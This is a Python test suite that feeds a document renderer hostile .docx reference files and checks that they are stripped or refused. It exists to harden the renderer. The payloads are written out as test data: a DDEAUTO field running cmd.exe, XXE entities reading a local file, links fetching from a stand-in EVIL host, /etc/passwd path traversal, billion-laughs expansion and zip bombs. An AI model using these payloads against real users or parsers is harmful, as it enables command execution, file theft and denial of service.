"""Hostile reference documents: nothing but their look reaches the rendered .docx."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import pytest
from lxml import etree

from tests.hostile.guarantees import assert_bounded, assert_no_crash, valid
from tests.hostile.references import (
    EVIL,
    HEADER_TEXT,
    R_NS,
    Edit,
    add_rel,
    in_header,
    inflating,
    replace,
    with_doctype,
    write_reference,
)
from tests.hostile.runner import Run, run_cli

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
HEADER = "word/header1.xml"
HEADER_RELS = "word/_rels/header1.xml.rels"
SETTINGS = "word/settings.xml"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
W_P = '<w:p xmlns:r="' + R_NS + '">'

LINKS: dict[str, Mapping[str, Edit]] = {
    "attached-remote-template": {
        SETTINGS: replace(
            "<w:defaultTabStop",
            f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT"/><w:linkStyles/><w:defaultTabStop',
        ),
        SETTINGS_RELS: add_rel("rIdT", "attachedTemplate", f"https://{EVIL}/corp.dotm"),
    },
    "header-hyperlink-remote": {
        HEADER: in_header(
            f'{W_P}<w:hyperlink r:id="rIdL"><w:r><w:t>visit</w:t></w:r></w:hyperlink></w:p>'
        ),
        HEADER_RELS: add_rel("rIdL", "hyperlink", f"http://{EVIL}/track"),
    },
    "header-image-file-url": {
        HEADER: in_header(
            f'{W_P}<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
            'drawingml/2006/main" r:link="rIdF"/></w:drawing></w:r></w:p>'
        ),
        HEADER_RELS: add_rel("rIdF", "image", "file:///etc/passwd"),
    },
    "header-vml-remote-image": {
        HEADER: in_header(
            f'{W_P}<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"'
            ' xmlns:o="urn:schemas-microsoft-com:office:office">'
            f'<v:imagedata o:href="http://{EVIL}/w.png" r:id="rIdV"/></v:shape></w:pict></w:r></w:p>'
        ),
        HEADER_RELS: add_rel("rIdV", "image", f"http://{EVIL}/w.png"),
    },
    "internal-target-outside-package": {
        HEADER_RELS: add_rel("rIdX", "image", "../../../../etc/passwd", external=False),
    },
    "header-svg-picture": {
        HEADER: in_header(
            f'{W_P}<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
            'drawingml/2006/main" r:embed="rIdG"/></w:drawing></w:r></w:p>'
        ),
        HEADER_RELS: add_rel("rIdG", "image", "media/pixel.svg", external=False),
        "word/media/pixel.svg": (
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{EVIL}/p.png"/></svg>'
        ).encode(),
    },
    "document-subdocument": {
        DOCUMENT_RELS: add_rel("rIdS", "subDocument", f"https://{EVIL}/sub.docx"),
    },
}

FIELDS: dict[str, Mapping[str, Edit]] = {
    "includepicture-simple": {
        HEADER: in_header(
            f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/p.png&quot; \\d ">'
            "<w:r><w:t>shown-result</w:t></w:r></w:fldSimple></w:p>"
        )
    },
    "includetext-complex": {
        HEADER: in_header(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">TEXT "file:///etc/passwd" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown-result</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    },
    "dde-nested-in-if": {
        HEADER: in_header(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:instrText>" ""</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown-result</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    },
}


def render_with(tmp_path: Path, reference: Path) -> Run:
    source = valid(tmp_path, "doc.prd.yaml")
    return run_cli("render", source, "--to", "docx", "--reference-doc", reference)


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rendered(tmp_path: Path, edits: Mapping[str, Edit]) -> dict[str, bytes]:
    """The parts of the .docx rendered with a reference carrying `edits` (which must work)."""
    reference = write_reference(tmp_path / "corp.docx", edits)
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    out = tmp_path / "doc.docx"
    opened = docx.Document(str(out))
    assert HEADER_TEXT in opened.sections[0].header.paragraphs[0].text  # the look survives
    return parts(out)


@pytest.mark.parametrize("case", list(LINKS))
def test_no_relationship_leaves_the_package(tmp_path: Path, case: str) -> None:
    found = rendered(tmp_path, LINKS[case])
    everything = b"".join(found.values())
    assert b'TargetMode="External"' not in everything
    assert EVIL.encode() not in everything and b"file:///" not in everything
    assert b"attachedTemplate" not in everything and b"linkStyles" not in everything
    assert b"etc/passwd" not in everything
    # Every r:id left in a part names a relationship of that part.
    for name, data in found.items():
        if not name.endswith(".xml") or name.startswith("["):
            continue
        rels_name = name.rsplit("/", 1)[0] + "/_rels/" + name.rsplit("/", 1)[1] + ".rels"
        rels = found.get(rels_name, b"")
        for used in _relationship_ids(data):
            assert f'Id="{used}"'.encode() in rels, (case, name, used)


def _relationship_ids(data: bytes) -> set[str]:
    from lxml import etree

    root = etree.fromstring(data)
    return {
        value
        for element in root.iter()
        for key, value in element.attrib.items()
        if key.startswith(f"{{{R_NS}}}")
    }


def test_header_picture_inside_the_package_is_kept(tmp_path: Path) -> None:
    found = rendered(tmp_path, {})
    assert any(name.startswith("word/media/") for name in found)
    assert b"r:embed" in found[HEADER] or b":embed=" in found[HEADER]


@pytest.mark.parametrize("case", list(FIELDS))
def test_fields_that_fetch_or_run_give_way_to_their_result(tmp_path: Path, case: str) -> None:
    found = rendered(tmp_path, FIELDS[case])
    header = found[HEADER]
    for word in (b"INCLUDEPICTURE", b"INCLUDE", b"DDEAUTO", b"cmd.exe", EVIL.encode()):
        assert word not in header, (case, word)
    assert b"shown-result" in header


def test_safe_fields_stay(tmp_path: Path) -> None:
    found = rendered(
        tmp_path,
        {
            HEADER: in_header(
                '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
            )
        },
    )
    assert b'w:instr=" PAGE "' in found[HEADER]


SECRET = "secret-canary-91c4"


@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/fontTable.xml", "word/document.xml", "[Content_Types].xml"]
)
def test_a_dtd_in_any_part_is_refused(tmp_path: Path, part: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    reference = write_reference(tmp_path / "corp.docx", {part: with_doctype(doctype)})
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert "declares a DTD" in run.stderr
    assert SECRET not in run.stdout + run.stderr
    assert not (tmp_path / "doc.docx").exists()


def test_a_part_named_as_no_xml_is_still_parsed_as_xml(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    reference = write_reference(
        tmp_path / "corp.docx",
        {
            DOCUMENT_RELS: replace('Target="styles.xml"', 'Target="styles.bin"'),
            "[Content_Types].xml": replace(
                'PartName="/word/styles.xml"', 'PartName="/word/styles.bin"'
            ),
            "word/styles.bin": lambda old: with_doctype(doctype)(
                b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/'
                b'wordprocessingml/2006/main"><w:x>&e;</w:x></w:styles>'
            ),
        },
    )
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2 and "declares a DTD" in run.stderr
    assert SECRET not in run.stdout + run.stderr


def test_entity_expansion_is_refused(tmp_path: Path) -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>'
    reference = write_reference(
        tmp_path / "corp.docx",
        {
            "word/styles.xml": lambda old: with_doctype(doctype)(old).replace(
                b"</w:styles>", b"<w:x>&l9;</w:x></w:styles>"
            )
        },
    )
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert_bounded(run)


@pytest.mark.parametrize("declared", [None, 1000], ids=["honest", "lying"])
def test_a_part_that_inflates_past_the_bound_is_refused_unread(tmp_path: Path, declared) -> None:
    # 256 MiB of styles: read whole, more than 500 MB of peak memory; refused, a few dozen.
    reference = inflating(tmp_path / "bomb.docx", "word/styles.xml", 256 << 20, declared)
    assert reference.stat().st_size < 2 << 20
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert "bomb.docx" in run.stderr
    assert_bounded(run)


ODD_NUMBERS: dict[str, Mapping[str, Edit]] = {
    "page-width-1e999": {
        "word/document.xml": replace('<w:pgSz w:w="12240"', '<w:pgSz w:w="1e999"'),
    },
    "superscript-font-size": {
        "word/styles.xml": replace('<w:sz w:val="22"/>', '<w:sz w:val="²⁴"/>'),
    },
    "five-thousand-digit-list-id": {
        "word/numbering.xml": replace('w:abstractNumId="0"', f'w:abstractNumId="{"9" * 5000}"'),
    },
    "five-thousand-digit-relationship-id": {
        DOCUMENT_RELS: replace('Id="rId3"', f'Id="rId{"7" * 5000}"'),
    },
}


def assert_renders(tmp_path: Path, edits: Mapping[str, Edit]) -> None:
    """The render with a reference carrying `edits` succeeds, and Word can open the result."""
    reference = write_reference(tmp_path / "corp.docx", edits)
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    docx.Document(io.BytesIO((tmp_path / "doc.docx").read_bytes()))


@pytest.mark.parametrize("case", list(ODD_NUMBERS))
def test_odd_numbers_are_read_as_absent(tmp_path: Path, case: str) -> None:
    assert_renders(tmp_path, ODD_NUMBERS[case])


# Relationships that make one part stand for another: each is dropped, the render goes on.
TANGLED: dict[str, Mapping[str, Edit]] = {
    "styles-are-the-body": {
        DOCUMENT_RELS: replace('Target="styles.xml"', 'Target="document.xml"'),
    },
    "header-is-the-styles": {
        DOCUMENT_RELS: replace('Target="header1.xml"', 'Target="styles.xml"'),
    },
    "numbering-is-a-picture": {
        DOCUMENT_RELS: replace('Target="numbering.xml"', 'Target="media/image1.png"'),
    },
    "settings-are-the-theme": {
        DOCUMENT_RELS: replace('Target="settings.xml"', 'Target="theme/theme1.xml"'),
    },
    "two-style-sheets": {
        DOCUMENT_RELS: add_rel("rId99", "styles", "styles.xml", external=False),
    },
    "header-is-a-footer": {HEADER: lambda old: old.replace(b"w:hdr", b"w:ftr")},
    "core-properties-are-something-else": {
        "docProps/core.xml": lambda old: old.replace(b"cp:coreProperties", b"cp:other"),
    },
}


@pytest.mark.parametrize("case", list(TANGLED))
def test_a_part_lends_one_thing_as_what_it_is(tmp_path: Path, case: str) -> None:
    assert_renders(tmp_path, TANGLED[case])


def test_a_main_part_that_is_no_document_is_refused(tmp_path: Path) -> None:
    edit = {"_rels/.rels": replace('Target="word/document.xml"', 'Target="word/styles.xml"')}
    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", edit))
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert "corp.docx" in run.stderr and "BytesIO" not in run.stderr


def _big_footer_rooted(old: bytes) -> bytes:
    """The header, its root a footer's, holding 13 MB of spaces."""
    start = old.index(b"<w:hdr")
    end = old.index(b">", start) + 1
    root = old[start:end].replace(b"w:hdr", b"w:ftr")
    return old[:start] + root + (b" " * 1_000_000 + b"<w:p/>") * 13 + b"</w:ftr>"


def test_a_part_left_out_is_judged_once(tmp_path: Path) -> None:
    # Reached by four relationships, the header is read once and left out: not counted
    # four times against the 48 MiB all parts may inflate to (once refused as too large).
    again = "".join(
        add_rel(f"rIdH{n}", "header", "header1.xml", external=False)(b"")
        .decode()
        .split("<Relationships", 1)[1]
        .split(">", 1)[1]
        .replace("</Relationships>", "")
        for n in range(3)
    )
    edits = {
        HEADER: _big_footer_rooted,
        DOCUMENT_RELS: replace("</Relationships>", again + "</Relationships>"),
    }
    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", edits))
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    written = parts(tmp_path / "doc.docx")
    assert not any(b"<w:ftr" in data for name, data in written.items() if "header" in name)


# -- found attacking --reference-doc: each once an internal error, a hang or a GB of memory

STYLES = "word/styles.xml"
TYPES = "[Content_Types].xml"
STYLES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"


def _section(inner: str) -> Edit:
    """An edit of the document giving its body's section properties `inner`."""

    def edit(old: bytes) -> bytes:
        text = old.decode()
        start = text.index("<w:sectPr")
        end = text.index("</w:sectPr>") + len("</w:sectPr>")
        return (
            text[:start] + f'<w:sectPr xmlns:r="{R_NS}">{inner}</w:sectPr>' + text[end:]
        ).encode()

    return edit


# Content types, relationships and section properties python-docx reads its own way.
READ_AS_PYTHON_DOCX_DOES: dict[str, Mapping[str, Edit]] = {
    "a-second-override-of-the-styles": {
        TYPES: replace(
            "</Types>",
            '<Override PartName="/word/styles.xml" ContentType="application/xml"/></Types>',
        ),
    },
    "styles-of-a-vendor-type": {TYPES: replace(STYLES_TYPE, "application/x-evil.styles+xml")},
    "an-override-named-in-capitals": {
        TYPES: replace('PartName="/word/styles.xml"', 'PartName="/WORD/STYLES.XML"')
    },
    "relationships-that-are-content-types": {
        DOCUMENT_RELS: lambda old: (
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
        ),
    },
    "a-target-of-two-slashes": {
        DOCUMENT_RELS: replace('Target="styles.xml"', 'Target="//word/styles.xml"')
    },
    "a-page-height-in-pixels": {"word/document.xml": _section('<w:pgSz w:w="12240" w:h="5px"/>')},
    "a-page-height-past-any-number": {
        "word/document.xml": _section('<w:pgSz w:w="12240" w:h="1e999in"/>')
    },
    "a-title-page-of-maybe": {
        "word/document.xml": _section('<w:pgSz w:w="12240" w:h="15840"/><w:titlePg w:val="maybe"/>')
    },
    "a-header-reference-naming-no-part": {
        "word/document.xml": _section(
            '<w:headerReference w:type="default"/><w:pgSz w:w="12240" w:h="15840"/>'
        )
    },
}


# A flow: its drawing is sized to the page's height, which python-docx reads.
FLOW = """\
flows:
  - id: FL-1
    name: Checkout
    steps:
      - id: pay
        action: Pay
      - id: done
        action: Done
"""


# Cases whose style sheet is still the reference's own: its headings' colour is kept.
KEEP_THE_STYLES = {
    "a-second-override-of-the-styles",
    "an-override-named-in-capitals",
    "a-target-of-two-slashes",
}
MARK = b"C0FFEE"  # the reference's own heading colour, in no style python-docx brings


@pytest.mark.parametrize("case", list(READ_AS_PYTHON_DOCX_DOES))
def test_what_python_docx_reads_its_own_way_renders(tmp_path: Path, case: str) -> None:
    source = valid(tmp_path, "doc.prd.yaml")
    source.write_text(source.read_text(encoding="utf-8") + FLOW, encoding="utf-8")
    edits = {STYLES: lambda old: old.replace(b"4F81BD", MARK), **READ_AS_PYTHON_DOCX_DOES[case]}
    reference = write_reference(tmp_path / "corp.docx", edits)
    run = run_cli("render", source, "--to", "docx", "--reference-doc", reference)
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    opened = docx.Document(io.BytesIO((tmp_path / "doc.docx").read_bytes()))
    assert any(p.style.name == "Heading 2" and "Checkout" in p.text for p in opened.paragraphs)
    if case in KEEP_THE_STYLES:
        assert MARK in parts(tmp_path / "doc.docx")[STYLES]


def _spoil(path: Path, name: str, how: str) -> Path:
    """The zip at `path` with its stored part `name` spoilt `how`."""
    with zipfile.ZipFile(path) as archive:
        local = archive.getinfo(name).header_offset
    data = bytearray(path.read_bytes())
    centrals = []  # where the central directory's entry of `name` starts
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == name.encode():
            centrals.append(at)
        at = data.find(b"PK\x01\x02", at + 4)
    if how == "does-not-inflate":
        length, extra = struct.unpack_from("<HH", data, local + 26)
        start = local + 30 + length + extra
        data[start : start + 2] = b"\xff\xff"
    elif how == "encrypted":  # the flag zipfile asks a password for
        data[local + 6] |= 1
        for central in centrals:
            data[central + 8] |= 1
    else:  # a compression method no one knows
        struct.pack_into("<H", data, local + 8, 77)
        for central in centrals:
            struct.pack_into("<H", data, central + 10, 77)
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize(
    ("how", "said"),
    [
        ("does-not-inflate", "cannot be read: the file is damaged"),
        ("encrypted", "is encrypted"),
        ("unknown-method", "is compressed in a way Word never writes"),
    ],
)
def test_a_spoilt_part_is_named(tmp_path: Path, how: str, said: str) -> None:
    reference = _spoil(write_reference(tmp_path / "corp.docx", {}), STYLES, how)
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert f"{STYLES} {said}" in run.stderr


def _nested(count: int) -> Edit:
    """An edit of the header adding a paragraph of `count` fields begun and never ended."""
    begun = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * count
    return in_header(f"{W_P}{begun}</w:p>")


def test_fields_begun_by_the_thousand_are_read_in_linear_time(tmp_path: Path) -> None:
    # 30,000 fields begun in one header took 44 s and 3.8 GB, each run listed in every
    # field still open; 100,000 more are refused by the markup bound instead.
    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", {HEADER: _nested(30_000)}))
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    assert_bounded(run)


@pytest.mark.parametrize("part", [STYLES, "word/settings.xml", HEADER])
def test_a_part_of_too_much_markup_is_refused_before_it_is_parsed(
    tmp_path: Path, part: str
) -> None:
    # 2.7 million empty elements (16 MB, under the size bound) parsed to 580 MB.
    root = {STYLES: "w:styles", "word/settings.xml": "w:settings", HEADER: "w:hdr"}[part]
    edits = {part: replace(f"</{root}>", "<w:x>" + "<w:b/>" * 2_700_000 + f"</w:x></{root}>")}
    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", edits))
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert f"{part} holds more than 400,000 elements and attributes" in run.stderr
    assert_bounded(run)


def _zip_of(count: int, claimed: int) -> bytes:
    """A zip of `count` empty entries whose end record says it holds `claimed`."""
    local = b"PK\x03\x04" + struct.pack("<HHHHHLLLHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    central = b"".join(
        b"PK\x01\x02"
        + struct.pack("<HHHHHHLLLHHHHHLL", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(n), 0, 0, 0, 0, 0, 0)
        + n
        for n in (b"%x" % i for i in range(count))
    )
    zip64_end = b"PK\x06\x06" + struct.pack(
        "<QHHLLQQQQ", 44, 45, 45, 0, 0, claimed, claimed, len(central), len(local)
    )
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, len(local) + len(central), 1)
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + central + zip64_end + locator + end


@pytest.mark.parametrize(
    ("claimed", "said"), [(400_000, "400,000 parts"), (10, "its zip directory takes")]
)
def test_a_zip_of_hundreds_of_thousands_of_entries_is_refused_unread(
    tmp_path: Path, claimed: int, said: str
) -> None:
    # zipfile reads the whole directory, by its size whatever its count, before one can
    # count its entries: 1.5 million took 800 MB. Count and size are read first.
    reference = tmp_path / "corp.docx"
    reference.write_bytes(_zip_of(400_000, claimed))
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert said in run.stderr
    assert run.peak_bytes < 150 * 1024 * 1024, f"{run.peak_bytes / 2**20:.0f} MiB"


def test_fields_nested_by_the_thousand_are_cut_in_linear_time(tmp_path: Path) -> None:
    # 5,000 fields of code, each begun inside the code of the one before, all ended: the
    # runs of all of them go, and each is marked once, not once for every field open.
    begun = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r>'
    ended = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    edits = {
        HEADER: in_header(f"{W_P}{begun * 5000}{ended * 5000}<w:r><w:t>after</w:t></w:r></w:p>")
    }
    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", edits))
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    assert_bounded(run)
    headers = [d for n, d in parts(tmp_path / "doc.docx").items() if n.startswith("word/header")]
    assert any(b"after" in h for h in headers) and not any(b"INCLUDETEXT" in h for h in headers)


def _paragraph_styles(document: bytes) -> list[tuple[str, str | None, str]]:
    """(id, type, lowercased name) of the style each paragraph style id of the body names,
    as readers find it: the first style of that id."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        styles = etree.fromstring(archive.read(STYLES))
        body = etree.fromstring(archive.read("word/document.xml"))
    first: dict[str, etree._Element] = {}
    for style in styles.iterchildren(f"{W}style"):
        first.setdefault(style.get(f"{W}styleId"), style)
    found = []
    for style_id in sorted({p.get(f"{W}val") for p in body.iter(f"{W}pStyle")}):
        style = first.get(style_id)
        name = style.find(f"{W}name") if style is not None else None
        kind = (style.get(f"{W}type") or "paragraph") if style is not None else None
        found.append(
            (style_id, kind, (name.get(f"{W}val") or "").lower() if name is not None else "")
        )
    return found


def _based_on(text: str, style_id: str, base: str) -> str:
    start = text.index(f'w:styleId="{style_id}"')
    end = text.index("</w:style>", start)
    style = re.sub(r"<w:basedOn [^>]*/>", "", text[start:end])
    style = style.replace("/>", f'/><w:basedOn w:val="{base}"/>', 1)  # after its name
    return text[:start] + style + text[end:]


def _odd_styles(how: str) -> Edit:
    def edit(old: bytes) -> bytes:
        text = old.decode()
        heading = '<w:style w:type="paragraph" w:styleId="Heading1">'
        if how == "latent":  # the only "heading 1", where Word never looks for a style
            start = text.index(heading)
            end = text.index("</w:style>", start) + len("</w:style>")
            moved, text = text[start:end], text[:start] + text[end:]
            return text.replace("</w:latentStyles>", moved + "</w:latentStyles>").encode()
        if how == "taken":  # a character style holding the id of the "heading 1" after it
            squatter = '<w:style w:type="character" w:styleId="Heading1"><w:name w:val="Squatter"/></w:style>'
            return text.replace(heading, squatter + heading, 1).encode()
        # heading 1 based on heading 2 based on heading 1, Normal based on itself
        for style_id, base in (
            ("Heading1", "Heading2"),
            ("Heading2", "Heading1"),
            ("Normal", "Normal"),
        ):
            text = _based_on(text, style_id, base)
        return text.encode()

    return edit


@pytest.mark.parametrize("how", ["latent", "taken", "loop"])
def test_headings_keep_a_heading_style_whatever_the_style_sheet(tmp_path: Path, how: str) -> None:
    reference = write_reference(tmp_path / "corp.docx", {STYLES: _odd_styles(how)})
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    found = _paragraph_styles((tmp_path / "doc.docx").read_bytes())
    assert all(kind == "paragraph" for _, kind, _ in found), found
    assert "heading 1" in {name for _, _, name in found}, found
    if how == "loop":  # every chain of bases ends
        with zipfile.ZipFile(tmp_path / "doc.docx") as archive:
            styles = etree.fromstring(archive.read(STYLES))
        bases = {
            s.get(f"{W}styleId"): s.find(f"{W}basedOn").get(f"{W}val")
            for s in styles.iterchildren(f"{W}style")
            if s.find(f"{W}basedOn") is not None
        }
        for start in bases:
            seen, current = set(), start
            while current in bases:
                assert current not in seen, f"{start} is based on itself through {seen}"
                seen.add(current)
                current = bases[current]


def test_a_page_with_no_room_gets_prdkits(tmp_path: Path) -> None:
    # A size of 0: LibreOffice wrote no PDF at all of the rendered document.
    def zero(old: bytes) -> bytes:
        old = re.sub(rb"<w:pgSz [^>]*/>", b'<w:pgSz w:w="0" w:h="0"/>', old)
        return re.sub(
            rb"<w:pgMar [^>]*/>", b'<w:pgMar w:top="0" w:right="0" w:bottom="0" w:left="0"/>', old
        )

    rendered_parts = rendered(tmp_path, {"word/document.xml": zero})
    body = etree.fromstring(rendered_parts["word/document.xml"])
    size = next(body.iter(f"{W}pgSz"))
    assert int(size.get(f"{W}w")) > 10_000 and int(size.get(f"{W}h")) > 10_000


def test_a_long_document_serves_as_a_reference(tmp_path: Path) -> None:
    # Last quarter's PRD as the reference: its 60,000 paragraphs are let go as they are
    # read, never counted against what a part may hold nor held whole.
    text = "<w:p><w:r><w:t>Words of last quarter.</w:t></w:r></w:p>" * 60_000
    edits = {
        "word/document.xml": lambda old: old.replace(b"<w:body>", b"<w:body>" + text.encode(), 1)
    }
    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", edits))
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    assert_bounded(run)
    assert b"last quarter" not in parts(tmp_path / "doc.docx")["word/document.xml"]


PARAGRAPH = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
DOCUMENT = "word/document.xml"
# What the main part holds besides its text: each once parsed without a bound or kept.
AROUND_THE_TEXT: dict[str, Edit] = {
    # 16 MB of elements after the body, then inside its section properties: 861 MB once
    "after-the-body": lambda old: old.replace(
        b"</w:document>", b"<w:x>" + b"<a/>" * 4_000_000 + b"</w:x></w:document>"
    ),
    "in-the-section-properties": lambda old: old.replace(
        b"</w:sectPr>", b"<a/>" * 4_000_000 + b"</w:sectPr>", 1
    ),
}


@pytest.mark.parametrize("case", list(AROUND_THE_TEXT))
def test_what_the_main_part_keeps_is_bounded(tmp_path: Path, case: str) -> None:
    reference = write_reference(tmp_path / "corp.docx", {DOCUMENT: AROUND_THE_TEXT[case]})
    run = render_with(tmp_path, reference)
    assert_no_crash(run)
    assert run.returncode == 2, run.stderr
    assert f"{DOCUMENT} holds more than 400,000 elements and attributes" in run.stderr
    assert_bounded(run)


@pytest.mark.parametrize(
    ("case", "body"),
    [
        # text between paragraphs, read after the paragraph it follows was let go: it was
        # left in the body, which then was not found when saved (an internal error)
        ("text-between-paragraphs", (PARAGRAPH + b"SECRET ") * 20_000),
        # a pretty-printed body without section properties (an internal error before)
        ("a-pretty-printed-body", b"\n  " + PARAGRAPH + b"\n  " + PARAGRAPH + b"\n"),
    ],
)
def test_no_text_of_the_body_is_left_behind(tmp_path: Path, case: str, body: bytes) -> None:
    def edit(old: bytes) -> bytes:
        start = old.index(b"<w:body>") + len(b"<w:body>")
        return old[:start] + body + old[old.index(b"</w:body>") :]

    run = render_with(tmp_path, write_reference(tmp_path / "corp.docx", {DOCUMENT: edit}))
    assert_no_crash(run)
    assert run.returncode == 0, run.stderr
    assert b"SECRET" not in parts(tmp_path / "doc.docx")[DOCUMENT]
